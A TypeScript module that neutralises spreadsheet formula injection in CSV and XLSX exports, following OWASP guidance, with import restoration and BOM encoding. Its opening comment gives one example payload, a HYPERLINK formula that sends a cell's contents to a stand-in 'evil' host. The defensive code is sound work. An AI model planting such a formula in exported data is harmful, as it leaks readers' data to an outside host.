// Formula injection: Excel, LibreOffice Calc and Google Sheets treat a cell
// whose first character is one of these as a formula, so exported data like
// `=HYPERLINK("http://evil/?"&A1, "click")` would run on the reader's machine
// and could send names elsewhere. OWASP's guidance
// (https://owasp.org/www-community/attacks/CSV_Injection): prepend a single
// quote to fields starting with = + - @ tab or carriage return, wrap every
// field in double quotes and double the quotes inside. ASVS 5.0 requirement
// 1.2.10 adds NUL; a leading line feed is added too since some readers strip
// leading whitespace before deciding.
const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '\n', '\0']);

/**
 * Makes one cell value safe to open in a spreadsheet: prefixes a single quote
 * when it starts with = + - @ tab CR LF or NUL. Everything else is unchanged.
 * Example: `neutraliseCell('=HYPERLINK("http://x")') === '\'=HYPERLINK("http://x")'`.
 */
export function neutraliseCell(value: string): string {
  return value.length > 0 && TRIGGERS.has(value[0]!) ? `'${value}` : value;
}

/**
 * The inverse on import, so export then import gives back the same data:
 * removes the quote only where neutraliseCell would have added it.
 * Example: `restoreNeutralisedCell("'=1+1") === '=1+1'`; `restoreNeutralisedCell("'tis") === "'tis"`.
 */
export function restoreNeutralisedCell(value: string): string {
  return value.length > 1 && value[0] === "'" && TRIGGERS.has(value[1]!) ? value.slice(1) : value;
}

export interface CsvWriteOptions {
  /** Default ','. */
  delimiter?: string;
  /** Default '\r\n' (RFC 4180, and what Excel writes). */
  eol?: string;
}

// Every field is quoted, so a delimiter or line break inside never needs more escaping.
function csvField(value: string): string {
  return `"${neutraliseCell(value).replaceAll('"', '""')}"`;
}

/**
 * Writes rows as CSV text with every field neutralised and quoted (OWASP).
 * Example: `toCsv([['이름', '메모'], ['김영희', '=HYPERLINK("x")']])`
 * → `"이름","메모"\r\n"김영희","'=HYPERLINK(""x"")"\r\n`.
 */
export function toCsv(rows: Iterable<readonly string[]>, options: CsvWriteOptions = {}): string {
  const delimiter = options.delimiter ?? ',';
  const eol = options.eol ?? '\r\n';
  let out = '';
  for (const row of rows) out += row.map(csvField).join(delimiter) + eol;
  return out;
}

/**
 * CSV bytes for download: UTF-8 with a byte-order mark, which is what makes
 * Excel on Windows read Hangul and hanzi correctly instead of as mojibake.
 * Example: `const bytes = encodeCsv(rows)`.
 */
export function encodeCsv(rows: Iterable<readonly string[]>, options: CsvWriteOptions = {}): Uint8Array {
  const body = new TextEncoder().encode(toCsv(rows, options));
  const out = new Uint8Array(body.length + 3);
  out.set([0xef, 0xbb, 0xbf], 0);
  out.set(body, 3);
  return out;
}

/**
 * XLSX bytes with every cell written as neutralised text: never a formula,
 * never a number or date reinterpreted by the spreadsheet.
 * Example: `const bytes = await writeXlsx([['이름'], ['김영희']], { sheet: 'cases' })`.
 */
export async function writeXlsx(rows: Iterable<readonly string[]>, options: { sheet?: string } = {}): Promise<Uint8Array> {
  // Loaded on first use: exceljs is large, and import itself never needs it.
  const { default: ExcelJS } = await import('exceljs');
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet(options.sheet ?? 'Sheet1');
  for (const row of rows) sheet.addRow(row.map((v) => neutraliseCell(v)));
  const buffer = await workbook.xlsx.writeBuffer();
  return new Uint8Array(buffer as ArrayBuffer);
}
